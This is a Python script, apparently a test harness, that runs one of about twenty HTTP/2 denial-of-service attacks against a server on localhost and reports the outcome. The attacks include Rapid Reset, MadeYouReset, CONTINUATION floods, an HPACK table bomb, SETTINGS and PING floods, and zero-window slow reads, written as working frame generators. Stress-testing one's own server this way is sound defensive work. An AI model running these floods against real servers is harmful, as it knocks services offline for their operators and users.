"""One attack on a server of HTTP/2, over one connection: h2_attacks.py PORT NAME [LIMIT]

Sends until the server ends the connection, or LIMIT bytes were sent (64 MiB). Prints one object: bytes sent, seconds, whether the server
ended the connection, its GOAWAY frame, how many answers and RST_STREAM frames came.
"""

import json
import select
import socket
import struct
import sys
import time

from h2_client import (CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PATIENCE, PING, PREFACE, PRIORITY, PRIORITY_UPDATE,
                       RST_STREAM, SETTINGS, WINDOW_UPDATE, frame)

MOST_STREAMS = 0x7FFFFFFF


def request(path=b"/", method=b"\x82", more=b""):
    """A head in HPACK without a table: :method GET, :scheme http, :path, :authority."""
    return method + b"\x86\x04" + bytes([len(path)]) + path + b"\x01\x0cexample.test" + more


POST = b"\x83"


def literal(name, value):
    """A field that enters no table; name and value of less than 127 bytes."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def streams():
    return range(1, MOST_STREAMS, 2)


def rapid_reset():
    for stream in streams():
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, request()) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def made_you_reset():
    """The server is made to reset: its stream's window grows too far, or by nothing, or a frame has the wrong size."""
    faults = [(WINDOW_UPDATE, struct.pack(">I", 0)), (WINDOW_UPDATE, struct.pack(">I", 0x7FFFFFFF))]
    for stream in streams():
        kind, payload = faults[stream // 2 % 2]
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, request(b"/hold")) + frame(kind, 0, stream, payload)


def malformed():
    """Heads that are malformed: each a stream error."""
    for stream in streams():
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, request(more=literal(b"X-Upper", b"1")))


def continuation():
    yield frame(HEADERS, END_STREAM, 1, request())
    while True:
        yield frame(CONTINUATION, 0, 1, literal(b"x-more", b"y" * 100) * 148)


def empty_continuation():
    yield frame(HEADERS, END_STREAM, 1, request())
    while True:
        yield frame(CONTINUATION, 0, 1)


def settings():
    while True:
        yield frame(SETTINGS, 0, 0)


def settings_table():
    """The size of the table changes all the time."""
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HIHI", 1, 0, 1, 4_096))


def settings_ack():
    while True:
        yield frame(SETTINGS, 1, 0)


def settings_window():
    """Windows of a hundred streams change all the time."""
    for stream in range(1, 201, 2):
        yield frame(HEADERS, END_HEADERS, stream, request(b"/hold", POST))
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1)) + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535))


def ping():
    while True:
        yield frame(PING, 0, 0, b"12345678")


def empty_data():
    yield frame(HEADERS, END_HEADERS, 1, request(b"/hold", POST))
    while True:
        yield frame(DATA, 0, 1)


def padding():
    """DATA frames that are all padding."""
    yield frame(HEADERS, END_HEADERS, 1, request(b"/hold", POST))
    while True:
        yield frame(DATA, 8, 1, b"\xff" + bytes(255))


def priority():
    for stream in streams():
        yield frame(PRIORITY, 0, stream, struct.pack(">IB", 0, 16))


def priority_update():
    for stream in streams():
        yield frame(PRIORITY_UPDATE, 0, 0, struct.pack(">I", stream) + b"u=1, i")


def window_update():
    while True:
        yield frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))


def unknown():
    while True:
        yield frame(0xFA, 0xFF, 0, b"nothing")


def reset_closed():
    """RST_STREAM frames of a stream that is over."""
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, request())
    while True:
        yield frame(RST_STREAM, 0, 1, struct.pack(">I", 8))


def table_bomb():
    """A field of 4,000 bytes enters the table, and each byte of a block then names it."""
    value = b"v" * 4_000
    entry = b"\x40\x01x" + b"\x7f" + bytes([(len(value) - 127) & 0x7F | 0x80, (len(value) - 127) >> 7]) + value
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, request(more=entry))
    for stream in range(3, MOST_STREAMS, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, request(more=b"\xbe" * 16_000))


def half_open():
    """Streams whose content never comes."""
    for stream in streams():
        yield frame(HEADERS, END_HEADERS, stream, request(b"/", POST))


def zero_window():
    """Answers of a megabyte on a hundred streams whose windows are never opened; then silence."""
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    for stream in range(1, 201, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, request(b"/large/1000000"))


def drip():
    """The same, and each stream takes a byte from time to time."""
    yield from zero_window()
    while True:
        yield b"".join(frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 1)) for stream in range(1, 201, 2))


def silence():
    yield b""


# Attacks during which the answers pile up at the server.
DEAF = {settings, ping, rapid_reset}
ATTACKS = {one.__name__.replace("_", "-"): one for one in (
    rapid_reset, made_you_reset, malformed, continuation, empty_continuation, settings, settings_table, settings_ack, settings_window,
    ping, empty_data, padding, priority, priority_update, window_update, unknown, reset_closed, table_bomb, half_open, zero_window,
    drip, silence)}


class Victim:
    """What is seen of the server."""

    def __init__(self, port):
        self.socket = socket.create_connection(("127.0.0.1", port))
        self.socket.setblocking(False)
        self.buffer, self.goaway, self.ended, self.answers, self.resets, self.sent = bytearray(), None, False, 0, 0, 0

    def send(self, data, reads=True):
        """Sends all of it, and reads meanwhile; returns whether that was possible. Nothing moving for long is an end to it as well."""
        view = memoryview(data)
        while view and not self.ended:
            readable, writable, _ = select.select([self.socket] if reads else [], [self.socket], [], 2)
            if not readable and not writable:
                # Who does not read is not read from: now it does.
                reads = True
                readable, writable, _ = select.select([self.socket], [self.socket], [], PATIENCE)
                if not readable and not writable:
                    raise TimeoutError("the server neither takes anything nor ends the connection")
            if readable:
                self.read()
            if writable and not self.ended:
                try:
                    count = self.socket.send(view)
                except OSError:
                    # What the server said before may still be there.
                    self.drain(1)
                    self.ended = True
                    return
                view, self.sent = view[count:], self.sent + count

    def read(self):
        try:
            data = self.socket.recv(262_144)
        except BlockingIOError:
            return
        except OSError:
            data = b""
        if not data:
            self.ended = True
        self.buffer += data
        start, buffer = 0, self.buffer
        while len(buffer) - start >= 9:
            size, kind = int.from_bytes(buffer[start : start + 3], "big"), buffer[start + 3]
            if len(buffer) - start < 9 + size:
                break
            payload = bytes(buffer[start + 9 : start + 9 + size])
            start += 9 + size
            self.answers += kind == HEADERS
            self.resets += kind == RST_STREAM
            if kind == GOAWAY:
                last, code = struct.unpack(">II", payload[:8])
                self.goaway = {"code": code, "last": last, "text": payload[8:].decode("latin-1")}
        del buffer[:start]

    def drain(self, seconds):
        """Reads until the end, so long at most."""
        deadline = time.monotonic() + seconds
        while not self.ended and (left := deadline - time.monotonic()) > 0:
            if select.select([self.socket], [], [], left)[0]:
                self.read()


def main():
    port, name, limit = int(sys.argv[1]), sys.argv[2], int(sys.argv[3]) if len(sys.argv) > 3 else 64 << 20
    attack, begin, victim = ATTACKS[name], time.monotonic(), Victim(port)
    if attack is not silence:
        victim.send(PREFACE + frame(SETTINGS, 0, 0))
    batch = bytearray()
    for piece in attack():
        batch += piece
        if len(batch) >= 65_536 or attack is drip:
            victim.send(batch, attack not in DEAF)
            batch.clear()
        if attack is drip:
            victim.drain(0.05)
        if victim.ended or victim.sent >= limit:
            break
    victim.send(batch)
    # Attacks that end by themselves wait for what the server makes of it.
    if not victim.ended:
        victim.drain(PATIENCE if attack in (zero_window, silence) else 2)
    print(json.dumps({"sent": victim.sent, "seconds": time.monotonic() - begin, "ended": victim.ended, "goaway": victim.goaway,
                      "answers": victim.answers, "resets": victim.resets}))


main()
